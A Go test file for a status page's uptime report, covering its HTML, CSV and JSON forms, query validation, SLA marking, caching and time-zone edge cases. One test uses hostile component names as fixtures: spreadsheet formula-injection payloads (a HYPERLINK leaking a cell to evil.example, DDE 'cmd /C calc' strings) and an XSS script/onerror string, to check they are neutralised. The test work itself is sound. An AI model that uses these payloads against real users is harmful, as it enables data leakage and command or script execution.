package public

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/beacon-status/beacon/components"
	"github.com/beacon-status/beacon/incidents"
)

// The uptime report (/uptime): its page, CSV and JSON forms, the month
// parameter, SLA marking, hostile names and caching. That its figures are
// the uptime API's is checked in cmd/beacon, where both are served.

// upTarget is an SLA target for components.Input.
func upTarget(v float64) **float64 {
	p := &v
	return &p
}

// upShowcase is the showcase scene (pgShowcase) with SLA targets on API
// (99.9) and Database (99.95).
func upShowcase(t *testing.T) *pgScene {
	t.Helper()
	s := pgShowcase(t)
	s.update("API", components.Input{SLATarget: upTarget(99.9)})
	s.update("Database", components.Input{SLATarget: upTarget(99.95)})
	return s
}

// upIndentJSON indents a JSON body, so that its golden file reads.
func upIndentJSON(t *testing.T, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := json.Indent(&buf, b, "", "  "); err != nil {
		t.Fatalf("%v: %s", err, b)
	}
	return append(buf.Bytes(), '\n')
}

// TestUptimeGolden renders the report of the showcase scene as a page,
// one month's page, CSV and JSON, and compares them with testdata/pages
// (-update rewrites them).
func TestUptimeGolden(t *testing.T) {
	s := upShowcase(t)
	for _, tt := range []struct {
		file, path string
		json       bool
	}{
		{"uptime.html", "/uptime", false},
		{"uptime-month.html", "/uptime?month=2026-02", false},
		{"uptime.csv", "/uptime?format=csv", false},
		{"uptime-month.csv", "/uptime?month=2026-02&format=csv", false},
		{"uptime-month.json", "/uptime?format=json&month=2026-01", true},
	} {
		t.Run(tt.file, func(t *testing.T) {
			s := s.with(t)
			got := s.get(tt.path).Body
			if tt.json {
				got = upIndentJSON(t, got)
			}
			pgGolden(t, filepath.Join("testdata", "pages", tt.file), s.normalise(got))
		})
	}
}

// upCSV fetches a CSV form and parses it, checking its headers.
func upCSV(t *testing.T, s *pgScene, path, filename string) [][]string {
	t.Helper()
	res := s.get(path)
	if got := res.Header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
		t.Errorf("%s: Content-Type %q, want text/csv; charset=utf-8", path, got)
	}
	if got, want := res.Header.Get("Content-Disposition"), `attachment; filename="`+filename+`"`; got != want {
		t.Errorf("%s: Content-Disposition %q, want %q", path, got, want)
	}
	if !bytes.HasSuffix(res.Body, []byte("\r\n")) || bytes.Count(res.Body, []byte("\n")) != bytes.Count(res.Body, []byte("\r\n")) {
		t.Errorf("%s: lines do not all end in CRLF (RFC 4180)", path)
	}
	r := csv.NewReader(bytes.NewReader(res.Body))
	r.FieldsPerRecord = 10
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	if len(rows) == 0 || !slices.Equal(rows[0], []string{"period", "component_id", "component", "group", "uptime_percentage",
		"major_outage_seconds", "partial_outage_seconds", "sla_target", "below_target", "incidents"}) {
		t.Fatalf("%s: header %q", path, rows[:min(1, len(rows))])
	}
	return rows[1:]
}

// TestUptimeCSV reads the CSV forms: a row per component (overall first)
// and month, oldest first; with ?month=, the month's row then one per day.
func TestUptimeCSV(t *testing.T) {
	s := upShowcase(t)
	rows := upCSV(t, s, "/uptime?format=csv", "uptime.csv")
	names := []string{"All components", "API", "Database", "DNS", "Website"}
	if len(rows) != len(names)*12 {
		t.Fatalf("%d rows, want 12 for each of %q", len(rows), names)
	}
	for i, row := range rows {
		name, month := names[i/12], time.Date(2025, 4+time.Month(i%12), 1, 0, 0, 0, 0, time.UTC).Format("2006-01")
		if row[0] != month || row[2] != name {
			t.Errorf("row %d is %s %s, want %s %s", i+2, row[0], row[2], month, name)
		}
	}
	// API, February 2026: 1 h down of 672, below its 99.9 target, and the
	// incident behind it with its address.
	feb := rows[12+10]
	if want := []string{"2026-02", s.id("API"), "API", "", "99.85", "3600", "0", "99.9", "yes",
		"Elevated API errors (http://localhost:8080/incidents/" + s.id("Elevated API errors") + ")"}; !slices.Equal(feb, want) {
		t.Errorf("API in February: %q, want %q", feb, want)
	}
	// Database in Platform, before it existed: no figures.
	if got := rows[24]; got[3] != "Platform" || got[4] != "" || got[7] != "99.95" || got[8] != "" {
		t.Errorf("Database in April 2025 (no data): %q, want its group, no figures, its target, no marking", got)
	}
	if got := rows[36+11]; got[4] != "100.00" || got[7] != "" || got[8] != "" {
		t.Errorf("DNS in March 2026: %q, want 100.00 and no target", got)
	}

	month := upCSV(t, s, "/uptime?month=2026-02&format=csv", "uptime-2026-02.csv")
	if len(month) != len(names)*29 {
		t.Fatalf("?month=2026-02: %d rows, want 29 (the month, 28 days) for each of %q", len(month), names)
	}
	api := month[29 : 29+29]
	if api[0][0] != "2026-02" || api[1][0] != "2026-02-01" || api[28][0] != "2026-02-28" || api[3][4] != "95.83" || api[3][5] != "3600" {
		t.Errorf("API in February: %q … %q, want the month, then 1 to 28 February with 95.83 on the 3rd", api[0], api[28])
	}
}

// upKeys returns the sorted keys of a JSON object.
func upKeys(t *testing.T, v any) []string {
	t.Helper()
	m, ok := v.(map[string]any)
	if !ok {
		t.Fatalf("%v is not an object", v)
	}
	return sortedKeys(m)
}

// TestUptimeJSON checks the JSON form's keys at every level, its headers
// and the figures of a month with no data, a month below target and one
// without a target.
func TestUptimeJSON(t *testing.T) {
	s := upShowcase(t)
	for _, tt := range []struct {
		path string
		days bool
	}{{"/uptime?format=json", false}, {"/uptime?format=json&month=2026-02", true}} {
		res := s.get(tt.path)
		if got := res.Header.Get("Content-Type"); got != "application/json; charset=utf-8" {
			t.Errorf("%s: Content-Type %q", tt.path, got)
		}
		if got := res.Header.Get("Access-Control-Allow-Origin"); got != "*" {
			t.Errorf("%s: Access-Control-Allow-Origin %q, want * (scripts on other sites read it, as API v2)", tt.path, got)
		}
		var body map[string]any
		res.JSON(t, &body)
		want := map[string][]string{
			"top":       {"components", "overall", "page", "range_end", "range_start"},
			"page":      {"id", "name", "time_zone", "url"},
			"overall":   {"major_outage", "months", "partial_outage", "uptime_percentage"},
			"period":    {"major_outage", "month", "partial_outage", "range_end", "range_start", "uptime_percentage"},
			"component": {"group", "id", "major_outage", "months", "name", "partial_outage", "sla_target", "uptime_percentage"},
			"month":     {"below_target", "incidents", "major_outage", "month", "partial_outage", "range_end", "range_start", "uptime_percentage"},
			"incident":  {"id", "name", "url"},
			"day":       {"date", "major_outage", "partial_outage", "uptime_percentage"},
		}
		if tt.days {
			want["component"] = sorted(append(want["component"], "days")...)
		}
		check := func(what string, v any) {
			t.Helper()
			if got := upKeys(t, v); !slices.Equal(got, want[what]) {
				t.Errorf("%s: %s keys %q, want %q", tt.path, what, got, want[what])
			}
		}
		check("top", body)
		check("page", body["page"])
		overall := body["overall"].(map[string]any)
		check("overall", overall)
		for _, m := range overall["months"].([]any) {
			check("period", m)
		}
		comps := body["components"].([]any)
		if len(comps) != 4 {
			t.Fatalf("%s: %d components, want API, Database, DNS and Website", tt.path, len(comps))
		}
		incidents := 0
		for _, c := range comps {
			check("component", c)
			for _, m := range c.(map[string]any)["months"].([]any) {
				check("month", m)
				for _, in := range m.(map[string]any)["incidents"].([]any) {
					check("incident", in)
					incidents++
				}
			}
			if tt.days {
				days := c.(map[string]any)["days"].([]any)
				if len(days) != 28 {
					t.Errorf("%s: %d days, want 28", tt.path, len(days))
				}
				for _, d := range days {
					check("day", d)
				}
			}
		}
		if incidents == 0 {
			t.Errorf("%s lists no incident", tt.path)
		}
	}

	var r struct {
		RangeStart string `json:"range_start"`
		RangeEnd   string `json:"range_end"`
		Components []struct {
			Name      string
			Group     *string
			SLATarget *float64 `json:"sla_target"`
			Months    []struct {
				Month            string
				UptimePercentage *float64 `json:"uptime_percentage"`
				BelowTarget      *bool    `json:"below_target"`
				Incidents        []struct{ ID, Name, URL string }
			}
		}
	}
	s.get("/uptime?format=json").JSON(t, &r)
	if r.RangeStart != "2025-04-01" || r.RangeEnd != "2026-03-31" {
		t.Errorf("range %s to %s, want 2025-04-01 to 2026-03-31", r.RangeStart, r.RangeEnd)
	}
	api, db, dns := r.Components[0], r.Components[1], r.Components[2]
	if api.Name != "API" || api.Group != nil || api.SLATarget == nil || *api.SLATarget != 99.9 {
		t.Errorf("API: group %v, target %v; want none and 99.9", api.Group, api.SLATarget)
	}
	if db.Group == nil || *db.Group != "Platform" {
		t.Errorf("Database's group is %v, want Platform", db.Group)
	}
	feb := api.Months[10]
	if feb.Month != "2026-02" || feb.UptimePercentage == nil || *feb.UptimePercentage != 99.85 || feb.BelowTarget == nil || !*feb.BelowTarget ||
		len(feb.Incidents) != 1 || feb.Incidents[0].URL != "http://localhost:8080/incidents/"+s.id("Elevated API errors") {
		t.Errorf("API in February: %+v, want 99.85, below target, its incident with its address", feb)
	}
	if m := api.Months[8]; m.Month != "2025-12" || m.BelowTarget == nil || *m.BelowTarget {
		t.Errorf("API in December (100 %%): %+v, want not below target", m)
	}
	if m := api.Months[0]; m.UptimePercentage != nil || m.BelowTarget != nil {
		t.Errorf("API in April 2025, before it existed: %+v, want no percentage and no marking", m)
	}
	if m := dns.Months[11]; m.BelowTarget != nil {
		t.Errorf("DNS has no target, yet March says below_target %v", *m.BelowTarget)
	}
}

// TestUptimeQuery answers the report's parameters: good months and
// formats, and a clear 400 naming the field for the rest (as JSON when
// JSON was asked for).
func TestUptimeQuery(t *testing.T) {
	s := upShowcase(t) // now: March 2026
	for _, path := range []string{"/uptime?month=2026-03", "/uptime?month=2016-04", "/uptime?format=", "/uptime?format=html",
		"/uptime?month=2025-11&format=json", "/uptime?other=1"} {
		if res := s.env.do("GET", path, ""); res.Status != 200 {
			t.Errorf("%s: status %d, want 200: %.200s", path, res.Status, res.Body)
		}
	}
	for _, tc := range []struct {
		query, field string
	}{
		{"month=2026-04", "month"}, // the future
		{"month=2016-03", "month"}, // more than ten years back
		{"month=2026-13", "month"},
		{"month=2026-1", "month"},
		{"month=26-01", "month"},
		{"month=2026-02-01", "month"},
		{"month=February", "month"},
		{"month=%00", "month"},
		{"month=" + strings.Repeat("9", 500), "month"},
		{"format=xml", "format"},
		{"format=CSV", "format"},
		{"format=json&month=2027-01", "month"},
		{"format=pdf&month=2026-01", "format"},
	} {
		res := s.env.do("GET", "/uptime?"+tc.query, "")
		if res.Status != 400 {
			t.Errorf("?%.40s: status %d, want 400", tc.query, res.Status)
			continue
		}
		if strings.Contains(tc.query, "format=json") {
			var body struct{ Message, Field string }
			res.JSON(t, &body)
			if body.Field != tc.field || !strings.HasPrefix(body.Message, tc.field+" must") {
				t.Errorf("?%s: %+v, want a message about %s", tc.query, body, tc.field)
			}
			continue
		}
		doc := pgParse(t, res.Body)
		want := map[string]string{"month": "choose one from", "format": "Ask for format=csv or format=json"}[tc.field]
		if msg := pgText(pgOne(t, doc, pgSel("main"), "mains")); !strings.Contains(msg, want) {
			t.Errorf("?%.40s: the page says %q, want what %s must be (%q)", tc.query, msg, tc.field, want)
		}
		if res.Header.Get("ETag") != "" {
			t.Errorf("?%.40s: a refusal carries an ETag", tc.query)
		}
	}
	res := s.env.do("GET", "/uptime?month=nope", "", "Accept", "application/json")
	var body struct{ Field string }
	if res.JSON(t, &body); res.Status != 400 || body.Field != "month" {
		t.Errorf("a JSON caller's bad month: %d %s, want 400 naming month", res.Status, res.Body)
	}
	// The months a one-month page links: none after the current month.
	doc := pgParse(t, s.get("/uptime?month=2026-03").Body)
	if got := len(pgAll(doc, pgWithAttr("a", "rel", "next"))); got != 0 {
		t.Errorf("March 2026, the current month, links %d later months", got)
	}
	if got := pgAll(pgParse(t, s.get("/uptime?month=2016-04").Body), pgWithAttr("a", "rel", "prev")); len(got) != 0 {
		t.Errorf("the oldest month links an earlier one")
	}
}

// upSection returns the report's section of a component (by its id).
func upSection(t *testing.T, doc *html.Node, id string) *html.Node {
	t.Helper()
	return pgOne(t, doc, pgWithAttr("section", "aria-labelledby", "c-"+id), "sections of "+id)
}

// TestUptimeSLA marks the months below target in words, on the page and
// in both data forms: February holds an hour of major outage on Missed
// (99.85 % of 672 h, target 99.9), on Exact (target 99.85: equal is not
// below) and on Untargeted, and half an hour on Met (99.93 %).
func TestUptimeSLA(t *testing.T) {
	env := pgNewEnv(t)
	s := &pgScene{env: env, ids: map[string]string{}}
	s.at(2026, 1, 15, 12, 0)
	s.component("Met", components.Input{Showcase: ptr(true), SLATarget: upTarget(99.9)})
	s.component("Missed", components.Input{Showcase: ptr(true), SLATarget: upTarget(99.9)})
	s.component("Exact", components.Input{Showcase: ptr(true), SLATarget: upTarget(99.85)})
	s.component("Untargeted", components.Input{Showcase: ptr(true)})
	s.at(2026, 2, 10, 12, 0)
	s.incident("Outage", incidents.NewIncident{Components: pgStatuses{"Missed": components.MajorOutage, "Exact": components.MajorOutage,
		"Untargeted": components.MajorOutage, "Met": components.MajorOutage}})
	s.at(2026, 2, 10, 12, 30)
	s.update("Met", components.Input{Status: ptr(components.Operational)})
	s.at(2026, 2, 10, 13, 0)
	s.patch("Outage", incidents.Change{Status: ptr(incidents.Resolved)})
	s.at(2026, 3, 2, 12, 0)

	want := map[string]bool{"Met": false, "Missed": true, "Exact": false, "Untargeted": false}
	doc := pgParse(t, s.get("/uptime").Body)
	for name, below := range want {
		sec := upSection(t, doc, s.id(name))
		var feb *html.Node
		for _, tr := range pgAll(sec, pgSel("tr")) {
			if strings.HasPrefix(pgText(tr), "February 2026") {
				feb = tr
			}
		}
		if feb == nil {
			t.Fatalf("%s has no February row", name)
		}
		// In words: a colour alone would not reach every reader.
		if got := strings.Contains(pgText(feb), "Below target"); got != below {
			t.Errorf("%s's February row reads %q: below target %v, want %v", name, pgText(feb), got, below)
		}
		summary := pgAll(sec, pgSel("p", "sla"))
		switch {
		case name == "Untargeted" && len(summary) != 0:
			t.Errorf("Untargeted has an SLA summary: %q", pgText(summary[0]))
		case name != "Untargeted" && (len(summary) != 1 || strings.Contains(pgText(summary[0]), "Below target in 1 of 3 months") != below):
			t.Errorf("%s's summary %q, want below %v", name, pgTexts(summary), below)
		}
	}
	if got := pgTexts(pgAll(pgParse(t, s.get("/uptime?month=2026-02").Body), pgSel("p", "sla"))); !slices.Equal(got,
		[]string{"Target met.", "Below target this month.", "Target met."}) {
		t.Errorf("February's page says %q, want Missed alone below target", got)
	}

	var r struct {
		Components []struct {
			Name   string
			Months []struct {
				BelowTarget *bool `json:"below_target"`
			}
		}
	}
	s.get("/uptime?format=json").JSON(t, &r)
	rows := upCSV(t, s, "/uptime?format=csv", "uptime.csv")
	for i, c := range r.Components {
		feb, csvRow := c.Months[10].BelowTarget, rows[(i+1)*12+10]
		wantCSV := map[bool]string{true: "yes", false: "no"}[want[c.Name]]
		if c.Name == "Untargeted" {
			wantCSV = ""
		}
		if (feb == nil) != (c.Name == "Untargeted") || feb != nil && *feb != want[c.Name] || csvRow[8] != wantCSV {
			t.Errorf("%s in February: JSON below_target %v, CSV %q; want %v, %q", c.Name, feb, csvRow[8], want[c.Name], wantCSV)
		}
	}
}

// TestUptimeHostileNames: names that a spreadsheet would run as formulas
// are CSV cells of text, and names full of markup are text on the page.
func TestUptimeHostileNames(t *testing.T) {
	env := pgNewEnv(t)
	s := &pgScene{env: env, ids: map[string]string{}}
	s.at(2026, 2, 1, 12, 0)
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		`<script>alert("name")</script><img src=x onerror=alert(1)>`, `Quoted "name", with; separators`}
	for i, name := range hostile {
		s.component(name, components.Input{Showcase: ptr(true), Position: ptr(i + 1)})
	}
	s.group("=1+1 group", 10, hostile[2])
	s.at(2026, 2, 10, 12, 0)
	s.incident("=IMPORTXML(A1) outage", incidents.NewIncident{Components: pgStatuses{hostile[0]: components.MajorOutage}})
	s.at(2026, 2, 10, 13, 0)
	s.patch("=IMPORTXML(A1) outage", incidents.Change{Status: ptr(incidents.Resolved)})
	s.at(2026, 3, 1, 12, 0)

	for path, file := range map[string]string{"/uptime?format=csv": "uptime.csv", "/uptime?format=csv&month=2026-02": "uptime-2026-02.csv"} {
		names := map[string]bool{}
		for _, row := range upCSV(t, s, path, file) {
			for _, cell := range []string{row[2], row[3], row[9]} {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q starts a formula", path, cell)
				}
			}
			names[strings.TrimPrefix(row[2], "'")] = true
			if row[3] != "" && row[3] != "'=1+1 group" {
				t.Errorf("%s: group cell %q", path, row[3])
			}
			if row[9] != "" && !strings.HasPrefix(row[9], "'=IMPORTXML(A1) outage (http") {
				t.Errorf("%s: incidents cell %q", path, row[9])
			}
		}
		for _, name := range hostile {
			if !names[name] {
				t.Errorf("%s: no row names %q as it is (after the guarding apostrophe)", path, name)
			}
		}
	}
	for _, path := range []string{"/uptime", "/uptime?month=2026-02"} {
		doc := pgParse(t, s.get(path).Body)
		if bad := pgUnsafe(doc, "/static/beacon.js"); len(bad) > 0 {
			t.Errorf("%s: %q", path, bad)
		}
		var headings []string
		for _, h := range pgAll(doc, pgSel("h2")) {
			headings = append(headings, pgText(h))
		}
		for _, name := range hostile {
			if !slices.ContainsFunc(headings, func(h string) bool { return strings.HasPrefix(h, name) }) {
				t.Errorf("%s: no heading reads %q: %q", path, name, headings)
			}
		}
	}
}

// TestUptimeCaching serves every form from memory with an ETag, 304 and
// gzip, renders it once per snapshot, and shows a change at once.
func TestUptimeCaching(t *testing.T) {
	env := pgNewEnv(t)
	s := &pgScene{env: env, ids: map[string]string{}}
	s.component("API", components.Input{Showcase: ptr(true)})
	for _, path := range []string{"/uptime", "/uptime?month=2026-03", "/uptime?format=csv", "/uptime?format=json&month=2026-02"} {
		res := s.get(path)
		etag := res.Header.Get("ETag")
		if etag == "" || res.Header.Get("Cache-Control") != "public, max-age=0, must-revalidate" || !strings.Contains(res.Header.Get("Vary"), "Accept-Encoding") {
			t.Errorf("%s: ETag %q, Cache-Control %q, Vary %q", path, etag, res.Header.Get("Cache-Control"), res.Header.Get("Vary"))
		}
		if res := env.do("GET", path, "", "If-None-Match", etag); res.Status != 304 {
			t.Errorf("%s: status %d for its ETag, want 304", path, res.Status)
		}
		if gz := env.do("GET", path, "", "Accept-Encoding", "gzip"); gz.Header.Get("Content-Encoding") != "gzip" || !bytes.Equal(pgGunzip(t, gz.Body), res.Body) {
			t.Errorf("%s: not sent as gzip of the same body", path)
		}
		if head := env.do("HEAD", path, ""); head.Status != 200 || len(head.Body) != 0 || head.Header.Get("ETag") != etag {
			t.Errorf("%s HEAD: %d, %d bytes, ETag %q", path, head.Status, len(head.Body), head.Header.Get("ETag"))
		}
	}
	// Rendered once: the snapshot keeps the body, and every request until
	// the next change is answered with that one.
	snap := env.site.cache.cur.Load()
	const key = "uptime:year:html:en" // public/report's key for the 12-month page, in English
	kept := upKept(snap, key)
	for range 3 {
		s.get("/uptime")
	}
	if env.site.cache.cur.Load() != snap || kept == nil || upKept(snap, key) != kept {
		t.Error("/uptime was rendered again without a change")
	}
	old := s.get("/uptime").Header.Get("ETag")
	s.update("API", components.Input{SLATarget: upTarget(99.5)})
	res := env.do("GET", "/uptime", "", "If-None-Match", old)
	if res.Status != 200 || !strings.Contains(string(res.Body), "SLA target 99.5 %") {
		t.Errorf("after setting a target: status %d, body without it", res.Status)
	}
}

// upKept returns the resource snap keeps under key, or nil.
func upKept(snap *snapshot, key string) any {
	snap.lazyPages.mu.Lock()
	defer snap.lazyPages.mu.Unlock()
	if r, ok := snap.lazyPages.pages[key]; ok {
		return r
	}
	return nil
}

// BenchmarkUptimeReport measures one rendering of the 12-month report, in
// each form, for seedRebuild's page (100 components, 1,000 incidents): the
// work the first request after a change (or a minute) costs. Each request
// finds the snapshot's rendered pages emptied. The figures are recorded in
// docs/BENCHMARKS.md, never asserted.
//
//	go test ./public -run '^$' -bench UptimeReport -benchtime 20x
func BenchmarkUptimeReport(b *testing.B) {
	env := seedRebuild(b)
	s, err := env.site.cache.get(context.Background())
	if err != nil {
		b.Fatal(err)
	}
	for _, f := range []string{"html", "csv", "json"} {
		b.Run(f, func(b *testing.B) {
			for b.Loop() {
				s.lazyPages.mu.Lock()
				clear(s.lazyPages.pages)
				s.lazyPages.mu.Unlock()
				if res := env.do("GET", "/uptime?format="+f, ""); res.Status != 200 || len(res.Body) == 0 {
					b.Fatalf("status %d, %d bytes", res.Status, len(res.Body))
				}
			}
		})
	}
	if env.site.cache.cur.Load() != s {
		b.Fatal("the snapshot was rebuilt during the benchmark")
	}
}

// TestUptimeEmptyPage reads every form of the report of a page with no
// showcase component: an empty report, valid in each form, with and
// without ?month= (the one-month CSV once panicked on the overall line's
// missing days).
func TestUptimeEmptyPage(t *testing.T) {
	s := &pgScene{env: pgNewEnv(t), ids: map[string]string{}}
	s.at(2026, 1, 5, 12, 0)
	s.component("Hidden", components.Input{Showcase: ptr(false)})
	s.at(2026, 3, 10, 16, 0)
	for _, q := range []string{"", "?month=2026-02", "?month=2026-03", "?month=2025-06"} {
		sep := "?"
		if q != "" {
			sep = "&"
		}
		pgParse(t, s.get("/uptime"+q).Body)
		csvName := "uptime.csv"
		if q != "" {
			csvName = "uptime-" + strings.TrimPrefix(q, "?month=") + ".csv"
		}
		rows := upCSV(t, s, "/uptime"+q+sep+"format=csv", csvName)
		for _, row := range rows {
			if row[2] != "All components" || row[4] != "" {
				t.Errorf("%s: CSV row %q, want only the overall line without data", q, row)
			}
		}
		if len(rows) == 0 {
			t.Errorf("%s: CSV has no overall row", q)
		}
		var body struct {
			Components []any `json:"components"`
			Overall    struct {
				UptimePercentage *float64 `json:"uptime_percentage"`
				Months           []any    `json:"months"`
			} `json:"overall"`
		}
		s.get("/uptime"+q+sep+"format=json").JSON(t, &body)
		if body.Components == nil || len(body.Components) != 0 || body.Overall.UptimePercentage != nil || len(body.Overall.Months) == 0 {
			t.Errorf("%s: JSON %+v, want no components and the overall months without data", q, body)
		}
	}
}

// TestUptimeDSTMonthStart: in America/Asuncion, 2023-10-01 began at 01:00
// (daylight time from midnight), yet November begins at midnight; an
// incident on 1 November from 00:10 to 00:40 belongs to November alone,
// in the one-month report and in the year's.
func TestUptimeDSTMonthStart(t *testing.T) {
	env := newDefaultEnv(t)
	env.savePage(components.PageInput{Name: ptr("Acme"), TimeZone: ptr("America/Asuncion")})
	s := &pgScene{env: env, ids: map[string]string{}}
	s.at(2023, 8, 1, 12, 0)
	s.component("API", components.Input{Showcase: ptr(true)})
	s.at(2023, 11, 1, 3, 10) // 00:10 in Asuncion (UTC−3)
	s.incident("Midnight blip", incidents.NewIncident{Components: pgStatuses{"API": components.MajorOutage}})
	s.at(2023, 11, 1, 3, 40)
	s.patch("Midnight blip", incidents.Change{Status: ptr(incidents.Resolved)})
	s.at(2023, 12, 10, 12, 0)
	type month struct {
		Month     string
		Incidents []struct{ Name string }
	}
	var body struct {
		Components []struct{ Months []month }
	}
	in := map[string]int{}
	for _, q := range []string{"month=2023-10", "month=2023-11", ""} {
		s.get("/uptime?format=json&"+q).JSON(t, &body)
		for _, m := range body.Components[0].Months {
			in[q+" "+m.Month] = len(m.Incidents)
		}
	}
	for key, n := range in {
		want := 0
		if strings.HasSuffix(key, " 2023-11") {
			want = 1
		}
		if n != want {
			t.Errorf("%s lists %d incidents, want %d", key, n, want)
		}
	}
	if in["month=2023-11 2023-11"] != 1 || in[" 2023-11"] != 1 {
		t.Errorf("November's incident is missing: %v", in)
	}
}

// TestPastDaysMidnightSwitch: in America/Santiago, 2026-09-06 began at
// 01:00 (daylight time begins at midnight); the page's past days still
// name each day once, that one included.
func TestPastDaysMidnightSwitch(t *testing.T) {
	env := newDefaultEnv(t)
	env.savePage(components.PageInput{Name: ptr("Acme"), TimeZone: ptr("America/Santiago")})
	s := &pgScene{env: env, ids: map[string]string{}}
	s.at(2026, 9, 8, 15, 0)
	page := string(s.get("/").Body)
	for _, day := range []string{"Sep 8, 2026", "Sep 7, 2026", "Sep 6, 2026", "Sep 5, 2026"} {
		if n := strings.Count(page, "<h3>"+day+"</h3>"); n != 1 {
			t.Errorf("the past days name %s %d times, want once", day, n)
		}
	}
}
